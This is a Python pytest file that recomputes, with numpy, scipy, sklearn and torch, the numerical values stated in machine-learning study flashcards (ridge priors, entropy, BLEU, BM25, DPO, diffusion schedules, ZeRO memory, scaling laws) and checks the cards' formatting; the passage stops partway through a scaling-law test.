"""Numbers stated in the kb4 cards (classical ML, information theory, NLP metrics, RAG, alignment, diffusion,
distributed training, scaling, eval/safety, coding patterns), recomputed independently.

Each test loads the card from its YAML file, recomputes the number from the problem's inputs with numpy / scipy /
torch / sklearn / plain arithmetic (never from the card's text), formats it as the card writes it, and asserts the
answer contains it. A few structural gates (word counts, balanced $, misconception tags) guard all kb4 files.
"""

import itertools
import math
import re
from collections import Counter
from functools import cache
from pathlib import Path

import numpy as np
import pytest
import yaml
from cardtext import all_cards, contains, trap_contains

CONTENT = Path(__file__).resolve().parents[2] / "src" / "mldrill" / "content"
AREAS = [
    "classical-ml",
    "information-theory",
    "nlp-embeddings-metrics",
    "rag-retrieval",
    "alignment-rlhf",
    "diffusion",
    "distributed-training",
    "llm-foundations-scaling",
    "eval-safety",
    "coding-patterns",
]
FILES = sorted(p for a in AREAS for p in (CONTENT / a).glob("*.yaml"))


@cache
def load(path: Path) -> dict:
    with path.open(encoding="utf-8") as f:
        return yaml.safe_load(f)


def f3(x: float) -> str:
    return f"{x:.3f}"


# ------------------------------------------------------------------------------------------------ structure


@pytest.mark.parametrize("path", FILES, ids=[p.stem for p in FILES])
def test_topic_shape(path):
    doc = load(path)
    assert doc["id"] == path.stem and doc["area"] == path.parent.name
    assert 120 <= len(doc["summary"].split()) <= 300, f"{path.stem}: summary words"
    for c in doc["cards"]:
        assert c["id"].split("/")[0] == doc["id"]
        n = len(c["answer"].split())
        if c["level"] == "L1":
            assert n >= 25, f"{c['id']}: L1 answer has {n} words"
        else:
            assert 80 <= n <= 250, f"{c['id']}: {c['level']} answer has {n} words"
        assert len(c["trap"].split()) >= 15, c["id"]
        tags = c.get("tags", [])
        assert any(re.fullmatch(r"M\d+", t) for t in tags) == ("misconception" in tags), c["id"]
        if c["kind"] == "compare":
            assert "compare" in tags, c["id"]
        for text in (c["question"], c["answer"], c["trap"]):
            s = re.sub(r"```.*?```|`[^`]*`", "", text.replace(r"\$", "").replace("$$", ""), flags=re.S)
            assert s.count("$") % 2 == 0, f"{c['id']}: unbalanced $"


def test_misconceptions_once_each():
    own = [c for p in FILES for c in load(p)["cards"]]  # this group's areas only
    seen = Counter(t for c in own for t in c.get("tags", []) if re.fullmatch(r"M\d+", t))
    assert all(v == 1 for v in seen.values()), seen


# ------------------------------------------------------------------------------------------------ classical-ml


def test_ridge_lambda_is_noise_over_prior_variance():
    from sklearn.linear_model import Ridge

    sigma2, tau2 = 4.0, 0.5
    lam = sigma2 / tau2
    contains("linear-regression/ridge-prior", f"\\lambda = {lam:g}", f"halves it to {sigma2 / (2 * tau2):g}")
    # The MAP under N(0, tau2 I) equals sklearn's Ridge(alpha = sigma2/tau2) without intercept.
    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(30, 4)), rng.normal(size=30)
    w_map = np.linalg.solve(X.T @ X / sigma2 + np.eye(4) / tau2, X.T @ y / sigma2)
    np.testing.assert_allclose(w_map, Ridge(alpha=lam, fit_intercept=False).fit(X, y).coef_, rtol=1e-7)


def test_vif_thresholds_and_condition_number():
    for r2 in (0.9, 0.99):
        contains("linear-regression/collinearity", f"{r2}")
        assert round(1 / (1 - r2)) in (10, 100)
    contains("linear-regression/collinearity", "VIF 10", "gives 100")
    X = np.linalg.qr(np.random.default_rng(1).normal(size=(50, 2)))[0] @ np.diag([1.0, 1e-4])
    assert np.isclose(np.linalg.cond(X.T @ X), np.linalg.cond(X) ** 2, rtol=1e-4)
    contains("linear-regression/normal-equation", "10^4", "10^8")


def _underflow_point(dtype) -> float:
    """The most negative z at which the split sigmoid e^z/(1+e^z) is still > 0 (bisection)."""
    lo, hi = -2000.0, 0.0
    with np.errstate(over="ignore"):
        for _ in range(80):
            mid = (lo + hi) / 2
            e = np.exp(dtype(mid), dtype=dtype)
            s = e / (dtype(1) + e)
            lo, hi = (lo, mid) if s > 0 else (mid, hi)
    return hi


def test_sigmoid_overflow_thresholds():
    contains("logistic-regression/stable-loss", f"z < -{int(math.log(np.finfo(np.float64).max))}")
    contains("logistic-regression/stable-loss", f"about $z = {round(_underflow_point(np.float64))}$")
    with np.errstate(over="ignore"):
        assert 1 / (1 + np.exp(np.float64(710))) == 0.0  # the naive form is exactly 0 past the overflow
    contains("logistic-regression/stable-loss", f"z \\approx {round(_underflow_point(np.float32))}$")
    trap_contains("logistic-regression/stable-loss", f"{-math.log(1e-15):.1f}")
    z = np.float64(-1000.0)
    assert np.maximum(z, 0) - 1.0 * z + np.log1p(np.exp(-abs(z))) == 1000.0
    contains("logistic-regression/stable-loss", "exactly 1000")


def test_poly_kernel_feature_dimensions():
    from sklearn.preprocessing import PolynomialFeatures

    homog = PolynomialFeatures(degree=(2, 2), include_bias=False).fit(np.zeros((1, 2))).n_output_features_
    inhomog = PolynomialFeatures(degree=2, include_bias=True).fit(np.zeros((1, 2))).n_output_features_
    contains("svm-kernels/kernel-trick-dimension", f"**{homog}-dimensional**", "**6 dimensions**")
    assert homog == 3 and inhomog == 6
    contains("svm-kernels/kernel-trick-dimension", f"{math.comb(102, 2):,}", f"{math.comb(103, 3):,}")
    x, y = np.array([0.3, -1.2]), np.array([2.0, 0.7])
    phi = lambda v: np.array([v[0] ** 2, math.sqrt(2) * v[0] * v[1], v[1] ** 2])  # noqa: E731
    assert np.isclose(phi(x) @ phi(y), (x @ y) ** 2)


def test_impurity_by_hand():
    from scipy.stats import entropy

    gini = lambda p: 1 - sum(q * q for q in p)  # noqa: E731
    parent_g, child_g = gini([0.5, 0.5]), gini([0.8, 0.2])
    child_h = entropy([0.8, 0.2], base=2)
    cid = "decision-trees/impurity-by-hand"
    contains(cid, f"{child_g:.2f}", f"{child_h:.3f}", f"{parent_g - child_g:.2f}", f"{1 - child_h:.3f}")
    trap_contains(cid, f"{entropy([0.8, 0.2]):.3f} in nats")


def test_base_rate_posterior():
    prior, sens, fpr = 0.01, 0.95, 0.05
    post = sens * prior / (sens * prior + fpr * (1 - prior))
    contains("mle-map-bayes/base-rate", f3(post), f"{sens * prior + fpr * (1 - prior):.4f}")
    contains("mle-map-bayes/base-rate", f"{round(100 * post)}%", f"{round(sens * 10000 * prior)} of the")
    post2 = sens * post / (sens * post + fpr * (1 - post))
    contains("mle-map-bayes/base-rate", f"{round(100 * post2)}%")


def test_beta_map_example():
    from scipy import stats

    k, n, a, b = 3, 3, 2, 2
    post = stats.beta(k + a, n - k + b)
    mode = (k + a - 1) / (n + a + b - 2)
    assert abs(post.pdf(mode) - max(post.pdf(np.linspace(0.01, 0.99, 99)))) < 1e-2
    contains("mle-map-bayes/beta-map", f"= {mode:.1f}", f"{post.mean():.3f}", f"{(k + 1) / (n + 2):.1f}")


def test_one_d_slope_by_hand():
    x, y = np.array([1.0, 2, 3, 4]), np.array([2.0, 4, 5, 8])
    slope, intercept = np.polyfit(x, y, 1)
    contains("linear-regression/one-d-slope", f"$9.5/5 = {slope:.1f}$", f"{abs(intercept):.1f}$")
    assert math.isclose(((x - x.mean()) * (y - y.mean())).sum(), 9.5)


def test_log_odds_ratio():
    contains("logistic-regression/log-odds", f"{math.exp(0.7):.3f}")


def test_silhouette_by_hand():
    from sklearn.metrics import silhouette_samples, silhouette_score

    X = np.array([[0.0], [1.0], [5.0], [6.0]])
    s = silhouette_samples(X, [0, 0, 1, 1])
    contains("clustering/silhouette-by-hand", f"{s[0]:.3f}", f"{s[1]:.3f}", f"{silhouette_score(X, [0, 0, 1, 1]):.3f}")
    s2 = silhouette_samples(X, [0, 0, 0, 1])
    contains("clustering/silhouette-by-hand", f"{s2[2]:.3f}")
    assert s2[3] == 0.0


def test_sigmoid_kernel_not_psd():
    from sklearn.metrics.pairwise import rbf_kernel, sigmoid_kernel

    X = np.random.default_rng(0).normal(size=(30, 3))
    assert np.linalg.eigvalsh(sigmoid_kernel(X, gamma=1.0, coef0=1.0)).min() < -1e-6
    assert np.linalg.eigvalsh(rbf_kernel(X)).min() > -1e-10


def test_curse_of_dimensionality_edges():
    contains("knn/curse-of-dimensionality", f"{0.01**0.1:.3f}", f"{0.01**0.01:.3f}")


def test_likelihood_underflow():
    p = 1.0
    n_zero = None
    for i in range(1, 1001):
        p *= 0.1
        if p == 0.0 and n_zero is None:
            n_zero = i
    assert p == 0.0 and 320 <= n_zero <= 325
    cid = "mle-map-bayes/likelihood-underflow"
    contains(cid, f"{np.finfo(np.float64).smallest_subnormal:.1e}".replace("e-324", "\\times10^{-324}"))
    contains(cid, f"{1000 * math.log(0.1):.3f}", "about 323 factors")


def test_bagging_variance_formula():
    rng = np.random.default_rng(0)
    rho, B, n = 0.5, 10, 200_000
    common = rng.normal(size=n)
    preds = math.sqrt(rho) * common[:, None] + math.sqrt(1 - rho) * rng.normal(size=(n, B))  # unit variance, corr rho
    assert abs(preds.mean(1).var() - (rho + (1 - rho) / B)) < 0.01
    contains("bias-variance/bagging-variance", f"= {rho + (1 - rho) / B:.2f}\\sigma^2")


# ------------------------------------------------------------------------------------------ information-theory


def test_binary_entropy_09():
    from scipy.stats import entropy

    bits, nats = entropy([0.9, 0.1], base=2), entropy([0.9, 0.1])
    contains("entropy-kl/entropy-basics", f"{bits:.3f}$ bits", f"{nats:.3f} nats", f"{1 / math.log(2):.3f}")
    contains("entropy-kl/entropy-basics", f"{-0.9 * math.log2(0.9):.3f} + {-0.1 * math.log2(0.1):.3f}")
    contains("entropy-kl/entropy-basics", f"{math.log(2):.3f}")


def test_js_bounds_and_scipy_returns_sqrt():
    from scipy.spatial.distance import jensenshannon
    from scipy.special import rel_entr

    p, q = np.array([1.0, 0.0]), np.array([0.0, 1.0])
    m = (p + q) / 2
    js = 0.5 * rel_entr(p, m).sum() + 0.5 * rel_entr(q, m).sum()
    assert math.isclose(js, math.log(2))
    d = jensenshannon(p, q)
    assert math.isclose(d**2, js)
    contains("entropy-kl/js-divergence", f"{math.log(2):.3f}", f"{d:.3f}")


def test_die_parity_mutual_information():
    from sklearn.metrics import mutual_info_score

    faces = np.arange(1, 7)
    parity = faces % 2
    mi_bits = mutual_info_score(parity, faces) / math.log(2)
    assert math.isclose(mi_bits, 1.0)
    contains("mutual-information/mi-equals-entropy", "= 1$ bit", f"{math.log2(6):.3f}", f"{math.log2(3):.3f}")


def test_units_and_perplexity():
    bits = 2.0 / math.log(2)
    contains("entropy-kl/units-perplexity", f"{bits:.3f}$ bits", f"{math.exp(2.0):.3f}", f"{math.exp(bits):.1f}")
    assert math.isclose(2**bits, math.exp(2.0))
    contains("entropy-kl/max-entropy-uniform", f"{math.log(10):.3f}")


def test_kl_infinite_support():
    from scipy.special import rel_entr

    p, q = np.array([0.5, 0.5]), np.array([1.0, 0.0])
    assert np.isinf(rel_entr(p, q).sum())
    contains("entropy-kl/kl-infinite-support", f"{rel_entr(q, p).sum():.3f}")


def test_chain_rule_table():
    from scipy.stats import entropy

    joint = np.array([[0.4, 0.1], [0.1, 0.4]])
    hxy = entropy(joint.ravel(), base=2)
    hx = entropy(joint.sum(1), base=2)
    cid = "mutual-information/chain-rule"
    contains(cid, f"{hxy:.3f}", f"{hxy - hx:.3f}", f"{2 * hx - hxy:.3f}", f"{entropy([0.8, 0.2], base=2):.3f}")


def test_mi_nats_and_correlation_zero():
    from sklearn.metrics import mutual_info_score

    y = np.array([0, 1] * 50)
    assert math.isclose(mutual_info_score(y, y), math.log(2))
    contains("mutual-information/sklearn-mi-units", f"{math.log(2):.3f}")
    x = np.linspace(-1, 1, 201)
    assert abs(np.corrcoef(x, x**2)[0, 1]) < 1e-12


# -------------------------------------------------------------------------------------- nlp-embeddings-metrics


def test_sklearn_tfidf_idf_values():
    from sklearn.feature_extraction.text import TfidfVectorizer

    docs = ["a b", "b c", "b d"]  # term "a" in 1 of 3 docs, term "b" in all 3
    vec = TfidfVectorizer(token_pattern=r"\w+").fit(docs)
    idf = dict(zip(vec.get_feature_names_out(), vec.idf_, strict=False))
    contains("ngram-lm-perplexity/tfidf-sklearn", f"{idf['a']:.3f}", f"{idf['b']:.3f}", f"{math.log(3):.3f}")
    rows = vec.transform(docs).toarray()
    assert np.allclose(np.linalg.norm(rows, axis=1), 1.0)  # L2-normalized rows


def test_add_one_example():
    mle, add1 = 3 / 10, (3 + 1) / (10 + 1000)
    contains("ngram-lm-perplexity/add-k-vocab", f"= {mle}", f"{add1:.5f}", f"about {round(mle / add1)} times")
    contains("ngram-lm-perplexity/add-k-vocab", "4/1012")
    # 10 occurrences of the history, 3 of them followed by "cat": at most 1 + 7 distinct followers
    unseen = 1000 - (1 + (10 - 3))
    contains("ngram-lm-perplexity/add-k-vocab", f"at least {unseen} words", f"each get $1/{10 + 1000}$")
    assert unseen / (10 + 1000) > 0.98  # "together more than 98% of the mass"
    contains("ngram-lm-perplexity/add-k-vocab", "more than 98% of the mass")


def test_perplexity_values():
    import torch
    import torch.nn.functional as F

    contains("ngram-lm-perplexity/perplexity-definition", f"{math.exp(2):.3f}", f"{math.exp(3):.2f}", "50,257")
    loss = F.cross_entropy(torch.zeros(4, 50257, dtype=torch.float64), torch.tensor([0, 1, 2, 3]))
    assert round(math.exp(loss.item())) == 50257
    assert 2**2.0 == 4
    contains("ngram-lm-perplexity/perplexity-across-tokenizers", f"{1.3 * math.log(12):.2f}$M", f"{math.log(15):.2f}$M")


def test_perplexity_indexing_pitfall():
    import torch

    B, T, V = 2, 3, 5
    probs = torch.rand(B, T, V)
    tokens = torch.randint(V, (B, T))
    with pytest.raises(IndexError):
        probs[range(B), range(T), tokens]  # elementwise pairing: shapes (2,), (3,), (2, 3) don't broadcast
    right = probs[torch.arange(B)[:, None], torch.arange(T)[None, :], tokens]
    assert torch.equal(right, probs.gather(-1, tokens[..., None]).squeeze(-1))


def test_bleu_clipping_and_brevity():
    import sacrebleu

    hyp, ref = "the the the the the the the", "the cat is on the mat"
    stats = sacrebleu.corpus_bleu([hyp], [[ref]])
    assert stats.counts[0] == 2 and stats.totals[0] == 7 and stats.counts[1] == 0
    contains("text-gen-metrics/bleu-clipping", "2/7", f"{2 / 7:.3f}", f"{math.exp(-1):.3f}")


def test_rouge_example_fields():
    from rouge_score import rouge_scorer

    s = rouge_scorer.RougeScorer(["rouge1"]).score("the cat sat on the mat", "the cat sat")["rouge1"]
    contains("text-gen-metrics/rouge-fields", f"precision {s.precision:.1f}", f"recall {s.recall:.1f}")
    contains("text-gen-metrics/rouge-fields", f"F {s.fmeasure:.3f}")


def test_squad_f1_example():
    import string
    from collections import Counter as C

    def norm(t):
        t = "".join(ch for ch in t.lower() if ch not in string.punctuation)
        return [w for w in t.split() if w not in {"a", "an", "the"}]

    p, g = norm("the Eiffel Tower in Paris"), norm("Eiffel Tower")
    common = sum((C(p) & C(g)).values())
    prec, rec = common / len(p), common / len(g)
    contains("text-gen-metrics/squad-em-f1", f"{2 * prec * rec / (prec + rec):.3f}", f"{common}/{len(p)} = {prec}")


def test_glove_and_clip_numbers():
    contains("word-embeddings-clip/glove-ratios", f"{6.6e-5 / 7.8e-4:.3f}")
    contains("word-embeddings-clip/clip-loss", f"{1 / 0.07:.1f}")
    contains("word-embeddings-clip/clip-batch-temperature", f"{32768 - 1:,}", f"{1 / 0.07:.1f}")


def test_distinct_n_example():
    toks = ["the", "cat", "the", "cat", "sat"]
    d1 = len(set(toks)) / len(toks)
    bigrams = list(itertools.pairwise(toks))
    d2 = len(set(bigrams)) / len(bigrams)
    contains("nlp-tasks-eval/distinct-n", f"3/5 = {d1}", f"= {d2}")


def test_multimodal_recall_and_median_rank():
    ranks = np.array([1, 3, 2, 10, 1])
    cid = "nlp-tasks-eval/multimodal-retrieval-metrics"
    contains(cid, f"2/5 = {(ranks <= 1).mean()}", f"{(ranks <= 5).mean()}", f"median {int(np.median(ranks))}")


def test_best_span_joint_search():
    start = np.array([0.0, 5.0, 0.0, 0.0])
    end = np.array([6.0, 0.0, 0.0, 2.0])
    best = max(((i, j) for i in range(4) for j in range(i, 4)), key=lambda ij: start[ij[0]] + end[ij[1]])
    assert best == (1, 3) and np.argmax(end) < np.argmax(start)  # independent argmaxes give end < start


def test_sgns_subsampling_and_power():
    contains(
        "word-embeddings-clip/sgns-sampling-numbers",
        f"{1 - math.sqrt(1e-5 / 0.05):.3f}",
        f"{math.sqrt(1e-5 / 0.05):.4f}",
    )
    contains("word-embeddings-clip/sgns-sampling-numbers", f"{5000**0.75:.0f}", f"{5000 / 5000**0.75:.1f}×")


def test_glove_weights():
    f = lambda x: min(1.0, (x / 100) ** 0.75)  # noqa: E731
    contains("word-embeddings-clip/glove-weighting", f"{f(10):.3f}", f"{f(1):.3f}")
    assert f(100) == 1.0 and f(1000) == 1.0


def test_rouge_l_example():
    from rouge_score import rouge_scorer

    sc = rouge_scorer.RougeScorer(["rougeL", "rouge2"])
    s = sc.score("the cat sat on the mat", "the cat lay on a mat")
    contains("text-gen-metrics/rouge-l-lcs", f"4/6 \\approx {s['rougeL'].precision:.3f}", f"{s['rouge2'].fmeasure:.1f}")


def test_sliding_window_passes():
    n, ctx, stride = 100_000, 1024, 512
    contains(
        "ngram-lm-perplexity/sliding-window-ppl",
        f"about {math.ceil(n / ctx)} forward",
        f"about {math.ceil((n - ctx) / stride) + 1}",
    )


# ----------------------------------------------------------------------------------------------- rag-retrieval


def test_bm25_tf_saturation_and_idf():
    k1 = 1.5
    tf = lambda f: f * (k1 + 1) / (f + k1)  # noqa: E731  (average-length document: the length term is 1)
    contains("lexical-dense-retrieval/bm25-parameters", f"gives {tf(1):.1f}", f"{tf(2):.2f}", f"{tf(10):.2f}")
    idf = math.log((10 - 8 + 0.5) / (8 + 0.5))
    contains("lexical-dense-retrieval/bm25-negative-idf", f"{idf:.3f}", f"{math.log(1 + 2.5 / 8.5):.3f}")


def test_rank_bm25_floors_negative_idf():
    from rank_bm25 import BM25Okapi

    corpus = [["common", f"w{i}"] if i < 8 else [f"w{i}"] for i in range(10)]
    bm = BM25Okapi(corpus)  # k1=1.5, b=0.75, epsilon=0.25
    assert bm.k1 == 1.5 and bm.b == 0.75 and bm.epsilon == 0.25
    assert math.isclose(bm.idf["common"], 0.25 * bm.average_idf)  # the negative log(2.5/8.5) was replaced


def test_rrf_example():
    x, y = 1 / 61 + 1 / 70, 2 / 64
    contains("lexical-dense-retrieval/rrf-hybrid", f"{1 / 61:.5f}", f"{1 / 70:.5f}", f"{x:.5f}", f"{y:.5f}")
    assert y > x


def test_chunk_count():
    L, s, o = 10000, 512, 64
    n = len(range(0, L - o, s - o))  # chunk starts 0, 448, ... while a chunk still adds new tokens
    assert n == math.ceil((L - o) / (s - o))
    contains("rag-pipeline/chunking", f"= {n}$ chunks")


def test_retrieval_metrics_by_hand():
    from sklearn.metrics import ndcg_score

    rels = [1, 0, 1, 0, 0]
    # 3 relevant docs in the corpus: append the unretrieved one with the lowest score so the ideal sees it.
    y_true = np.array([[*rels, 1]])
    y_score = np.array([[6, 5, 4, 3, 2, 1]])
    ndcg = ndcg_score(y_true, y_score, k=5)
    hits = [i for i, r in enumerate(rels, 1) if r]
    precs = [sum(rels[:i]) / i for i in hits]
    ap_all, ap_ret = sum(precs) / 3, sum(precs) / len(hits)
    cid = "retrieval-metrics/metrics-by-hand"
    contains(cid, f"{ap_all:.3f}", f"{ndcg:.3f}", f"{1 + 1 / math.log2(3) + 0.5:.3f}", f"{2 / 3:.3f}")
    trap_contains(cid, f"{ap_ret:.3f}")


def test_ndcg_gain_conventions():
    from sklearn.metrics import ndcg_score

    g = np.array([3, 2, 0, 1])
    lin = ndcg_score(g[None], np.array([[4, 3, 2, 1]]))
    disc = 1 / np.log2(np.arange(2, 6))
    exp_gain = ((2.0**g - 1) * disc).sum() / ((2.0 ** np.sort(g)[::-1] - 1) * disc).sum()
    contains("retrieval-metrics/metric-conventions", f"{lin:.3f}", f"{exp_gain:.3f}")


def test_hybrid_min_max_example():
    bm, dn = np.array([12.0, 9.0, 3.0]), np.array([0.82, 0.80, 0.90])
    mm = lambda x: (x - x.min()) / (x.max() - x.min())  # noqa: E731
    h = 0.5 * mm(bm) + 0.5 * mm(dn)
    cid = "rag-advanced/hybrid-normalization"
    contains(cid, f"A = {h[0]:.1f}", f"B = {h[1]:.3f}", f"C = {h[2]:.1f}", f"[1.0, {mm(bm)[1]:.3f}, 0.0]")
    assert list(np.argsort(-h)) == [0, 2, 1]


def test_mrr_and_pq_numbers():
    rr = [1, 1 / 3, 0]
    contains("rag-advanced/mrr-by-hand", f"{sum(rr) / 3:.3f}")
    trap_contains("rag-advanced/mrr-by-hand", f"{sum(rr[:2]) / 2:.3f}")
    contains("rag-advanced/hnsw-ann", f"{768 * 4:,} bytes", f"{768 * 4 // 64}×")


# ---------------------------------------------------------------------------------------------- alignment-rlhf


def test_bradley_terry_values():
    import torch
    import torch.nn.functional as F

    bt = lambda m: -F.logsigmoid(torch.tensor(m, dtype=torch.float64)).item()  # noqa: E731
    contains("rlhf-reward-ppo/bradley-terry", f"{bt(0.0):.3f}", f"{bt(2.0):.3f}", f"{bt(-2.0):.3f}")
    assert math.isclose(bt(0.0), math.log(2))


def test_ppo_clip_example():
    import torch

    rho, adv, eps = torch.tensor(1.5, dtype=torch.float64, requires_grad=True), 1.0, 0.2
    obj = torch.minimum(rho * adv, rho.clamp(1 - eps, 1 + eps) * adv)
    obj.backward()
    assert math.isclose(obj.item(), 1.2) and rho.grad.item() == 0.0
    contains("rlhf-reward-ppo/ppo-clip", "\\min(1.5, 1.2) = 1.2")


def test_dpo_values():
    import torch
    import torch.nn.functional as F

    beta = 0.1
    margin = (5 - 0) - (-5 - 0)
    loss = -F.logsigmoid(torch.tensor(beta * margin, dtype=torch.float64)).item()
    contains("preference-optimization/dpo-derivation", f"{loss:.3f}", f"{math.log(2):.3f}")


def test_grpo_group_advantages():
    import torch

    r = torch.tensor([1.0, 0.0, 0.0, 1.0], dtype=torch.float64)
    a_pop = (r - r.mean()) / r.std(unbiased=False)
    a_unb = (r - r.mean()) / r.std()
    assert a_pop.tolist() == [1.0, -1.0, -1.0, 1.0]
    contains("preference-optimization/grpo", f"{r.std().item():.3f}", f"±{a_unb[0].item():.3f}")


def test_kl_estimators_k1_k3():
    k1 = lambda p, r: math.log(p / r)  # noqa: E731
    k3 = lambda p, r: (r / p - 1) - math.log(r / p)  # noqa: E731
    cid = "alignment-practice/kl-estimators"
    contains(cid, f"{k1(0.25, 0.5):.3f}", f"{k3(0.25, 0.5):.3f}", f"{k3(0.5, 0.25):.3f}")
    # Both are unbiased: their expectation under pi equals the exact KL(pi || pi_ref).
    pi, ref = np.array([0.5, 0.3, 0.2]), np.array([0.25, 0.25, 0.5])
    kl = float((pi * np.log(pi / ref)).sum())
    assert math.isclose(sum(p * k1(p, r) for p, r in zip(pi, ref, strict=False)), kl)
    assert math.isclose(sum(p * k3(p, r) for p, r in zip(pi, ref, strict=False)), kl)


# --------------------------------------------------------------------------------------------------- diffusion


def test_linear_schedule_abar():
    betas = np.linspace(1e-4, 0.02, 1000)
    abar = np.cumprod(1 - betas)
    contains("ddpm/forward-closed-form", f"{abar[-1] / 1e-5:.1f}\\times10^{{-5}}", f"about {abar[499]:.3f}")


def test_cosine_schedule_first_beta():
    T, s = 1000, 0.008
    f = lambda t: np.cos(((t / T + s) / (1 + s)) * np.pi / 2) ** 2  # noqa: E731
    beta1 = 1 - f(1) / f(0)
    naive = 1 - np.cos(np.pi / 2 / T) ** 2
    contains("ddpm/cosine-schedule", f"{naive / 1e-6:.1f}\\times10^{{-6}}", f"{beta1 / 1e-5:.1f}\\times10^{{-5}}")
    assert math.sqrt(beta1) < 1 / 127.5
    assert f(T) < 1e-30  # abar_T = 0 before clipping, so beta_T = 1


def test_fid_1d_gaussians():
    from scipy.linalg import sqrtm

    s1, s2 = np.array([[1.0]]), np.array([[4.0]])
    fid = (0 - 1) ** 2 + np.trace(s1 + s2 - 2 * np.real(sqrtm(s1 @ s2)))
    contains("ddpm/fid", f"FID $= {fid:g}$")


def test_v_parameterization_round_trip():
    rng = np.random.default_rng(0)
    x0, eps, ab = rng.normal(size=5), rng.normal(size=5), 0.3
    a, b = math.sqrt(ab), math.sqrt(1 - ab)
    xt, v = a * x0 + b * eps, a * eps - b * x0
    assert np.allclose(a * xt - b * v, x0) and np.allclose(b * xt + a * v, eps)


def test_snr_linear_schedule():
    abar = np.cumprod(1 - np.linspace(1e-4, 0.02, 1000))
    snr = abar / (1 - abar)
    cid = "diffusion-variants/snr"
    contains(cid, f"SNR ≈ {snr[0]:,.0f}", f"log-SNR ≈ {np.log(snr[0]):.2f}", f"SNR ≈ {snr[499]:.3f}")
    um = lambda x, p: f"{x:.{p}f}".replace("-", "−")  # noqa: E731  (the card writes a Unicode minus)
    contains(
        cid,
        f"log-SNR ≈ {um(np.log(snr[499]), 2)}",
        f"log-SNR ≈ {um(np.log(snr[-1]), 1)}",
        f"about {round(1 / snr[499])} times",
    )


def test_absorbing_mask_probability():
    rng = np.random.default_rng(0)
    masked = np.zeros(200_000, dtype=bool)
    for _ in range(5):
        masked |= rng.random(masked.size) < 0.1
    assert abs(masked.mean() - (1 - 0.9**5)) < 0.005
    contains("diffusion-variants/discrete-diffusion", f"{1 - 0.9**5:.3f}")


def test_latent_sizes():
    braces = lambda n: f"{n:,}".replace(",", "{,}")  # noqa: E731  (KaTeX thousands separator)
    contains(
        "diffusion-variants/latent-diffusion",
        braces(64 * 64 * 4),
        braces(512 * 512 * 3),
        f"{512 * 512 * 3 // (64 * 64 * 4)}× fewer",
    )
    contains("diffusion-variants/latent-diffusion", f"({64 * 64:,} instead of {512 * 512:,})")


# ---------------------------------------------------------------------------------------- distributed-training


def test_zero_memory_stages():
    psi, n, k = 7.5e9, 64, 12
    gb = lambda b: b / 1e9  # noqa: E731
    ddp, z1, z2, z3 = (2 + 2 + k) * psi, 4 * psi + k * psi / n, 2 * psi + (2 + k) * psi / n, (4 + k) * psi / n
    cid = "parallelism-memory/zero-memory"
    contains(cid, f"**{gb(ddp):.0f} GB**", f"**{gb(z1):.1f} GB**", f"**{gb(z2):.1f} GB**", f"**{gb(z3):.1f} GB**")
    contains(cid, f"{gb(4 * psi):.0f} + {gb(k * psi / n):.2f}", f"{gb(2 * psi):.0f} + {gb(14 * psi / n):.2f}")


def test_ring_allreduce_example():
    s, n = 7e9 * 2 / 1e9, 8
    sent = 2 * (n - 1) / n * s
    contains("parallelism-memory/ring-allreduce", f"= {sent:.1f}$ GB", f"about {sent / 200:.2f} s")
    # Simulate the ring: after reduce-scatter + all-gather each rank holds the full sum; count chunk sends.
    rng = np.random.default_rng(0)
    data = [rng.normal(size=n) for _ in range(n)]  # rank r holds a buffer of n chunks (one value each)
    buf = [d.copy() for d in data]
    sends = 0
    for step in range(n - 1):  # reduce-scatter
        msgs = [(r, (r - step) % n, buf[r][(r - step) % n]) for r in range(n)]
        for r, c, v in msgs:
            buf[(r + 1) % n][c] += v
            sends += 1
    for step in range(n - 1):  # all-gather
        msgs = [(r, (r + 1 - step) % n, buf[r][(r + 1 - step) % n]) for r in range(n)]
        for r, c, v in msgs:
            buf[(r + 1) % n][c] = v
            sends += 1
    total = sum(data)
    assert all(np.allclose(b, total) for b in buf)
    assert sends / n == 2 * (n - 1)  # chunks of size S/N sent per rank


def test_pipeline_bubble_values():
    p = 4
    for m in (4, 16, 32):
        frac = (p - 1) / (m + p - 1)
        contains("parallelism-memory/pipeline-bubble", f"{p - 1}/{m + p - 1} \\approx {frac:.3f}")


def test_tensor_parallel_mlp_identity():
    rng = np.random.default_rng(0)
    d, t = 8, 4
    X, A, B = rng.normal(size=(3, d)), rng.normal(size=(d, 4 * d)), rng.normal(size=(4 * d, d))
    gelu = lambda x: 0.5 * x * (1 + np.tanh(0.79788456 * (x + 0.044715 * x**3)))  # noqa: E731
    parts = [gelu(X @ a) @ b for a, b in zip(np.split(A, t, axis=1), np.split(B, t, axis=0), strict=False)]
    assert np.allclose(sum(parts), gelu(X @ A) @ B)


def test_3d_layout_numbers():
    contains("parallelism-memory/3d-layout", f"{175 / 64:.1f}B", f"{512 // 64}")
    contains("parallelism-memory/ddp", f"{32 * 8 * 4:,}")


def test_activation_memory_korthikanti():
    s, b, h, a, L = 2048, 1, 12288, 96, 96
    per_layer = s * b * h * (34 + 5 * a * s / h)
    cid = "distributed-practice/activation-memory"
    contains(
        cid, f"= {int(5 * a * s / h)}$", f"\\approx {per_layer / 1e9:.2f}$ GB", f"about {per_layer * L / 1e9:.0f} GB"
    )
    contains(cid, f"\\approx {34 * s * b * h / 1e9:.2f}$ GB", f"about **{34 * s * b * h * L / 1e9:.0f} GB**")
    contains(cid, f"\\approx {2 * s * b * h / 1e6:.0f}$ MB", f"{2 * s * b * h * L / 1e9:.1f} GB")


def test_fsdp_and_scaling_numbers():
    contains("distributed-practice/fsdp-vs-ddp", f"about {16 * 7:.0f} GB")
    contains("distributed-practice/scaling-efficiency", f"\\approx {4.5 / 8 * 100:.0f}\\%")


# ------------------------------------------------------------------------------------- llm-foundations-scaling

CHIN = dict(E=1.69, A=406.4, B=410.7, alpha=0.34, beta=0.28)


def chinchilla_loss(n: float, d: float) -> float:
    return CHIN["E"] + CHIN["A"] / n ** CHIN["alpha"] + CHIN["B"] / d ** CHIN["beta"]


def test_six_nd_and_training_time():
    c = 6 * 175e9 * 300e9
    assert c == pytest.approx(3.15e23)
    contains("scaling-laws/six-nd", "3.15\\times10^{23}")
    rate = 1024 * 312e12 * 0.40
    contains("scaling-laws/six-nd", f"{rate / 1e17:.2f}\\times10^{{17}}", f"**{c / rate / 86400:.1f} days**")


def test_chinchilla_optimal_and_fit():
    c = 5.76e23
    n = math.sqrt(c / 120)
    contains("scaling-laws/chinchilla-optimal", f"\\approx {n / 1e9:.0f}", f"{20 * n / 1e12:.1f}")
    cid = "scaling-laws/chinchilla-optimal"
